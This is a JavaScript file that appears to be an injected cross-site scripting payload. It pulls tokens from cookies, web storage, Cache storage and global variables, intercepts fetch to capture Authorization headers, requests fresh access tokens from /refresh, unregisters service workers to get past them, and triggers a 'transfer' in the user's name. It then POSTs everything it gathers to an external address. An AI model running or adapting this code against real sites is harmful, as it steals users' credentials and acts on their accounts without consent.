// The injected script: it takes whatever a script of the page can take, by every means that it knows.
const LIKE_A_TOKEN = /^(eyJ[\w-]+\.[\w-]+\.[\w-]+|kf[srk]_[\w-]{40,}|[\w-]{40,})$/;

export async function collect() {
  const found = [];
  const note = (means, value) => {
    if (value) found.push({ means, value: String(value) });
  };
  readCookies(note);
  readStorage(note);
  await readCaches(note);
  walk(window, 3, new Set([localStorage, sessionStorage]), (value) => note("a global variable", value));
  const acted = await overhear(note);
  await ask(fetch, "POST /refresh", note);
  await pastTheWorker(note);
  return { found, acted };
}

export async function run(elsewhere) {
  const taken = await collect();
  await fetch(elsewhere, { method: "POST", mode: "no-cors", body: JSON.stringify(taken) });
}

function readCookies(note) {
  for (const pair of document.cookie.split("; ")) note("document.cookie", pair.split("=").slice(1).join("="));
}

function readStorage(note) {
  for (const [means, store] of [["localStorage", localStorage], ["sessionStorage", sessionStorage]]) {
    for (let place = 0; place < store.length; place += 1) note(means, store.getItem(store.key(place)));
  }
}

async function readCaches(note) {
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) note("Cache storage", await (await cache.match(request)).text());
  }
}

function walk(thing, depth, seen, note) {
  if (depth === 0 || thing === null || typeof thing !== "object" || seen.has(thing)) return;
  seen.add(thing);
  for (const name of Object.keys(thing)) {
    let value;
    try {
      value = thing[name];
    } catch {
      continue;
    }
    if (typeof value === "string" && LIKE_A_TOKEN.test(value)) note(value);
    else walk(value, depth - 1, seen, note);
  }
}

// Puts itself in front of fetch while the page goes on working: once to overhear, and that is also acting in the user's name.
async function overhear(note) {
  const own = window.fetch;
  window.fetch = (resource, options = {}) => {
    const header = new Headers(options.headers).get("Authorization");
    if (header) note("the page's own requests", header.replace(/^Bearer /, ""));
    return own(resource, options);
  };
  try {
    return await window.shop.transfer();
  } finally {
    window.fetch = own;
  }
}

// What the page may ask for with the browser's cookies, a script in it may ask for too.
async function ask(fetching, means, note) {
  const reply = await fetching("/refresh", { method: "POST" });
  if (reply.ok) note(means, (await reply.json()).access_token);
}

async function pastTheWorker(note) {
  if (!navigator.serviceWorker?.controller) return;
  for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
  const frame = document.createElement("iframe");
  const loaded = new Promise((done) => frame.addEventListener("load", done, { once: true }));
  frame.src = "/frame";
  document.body.append(frame);
  await loaded;
  await ask((...request) => frame.contentWindow.fetch(...request), "POST /refresh, past the worker", note);
}
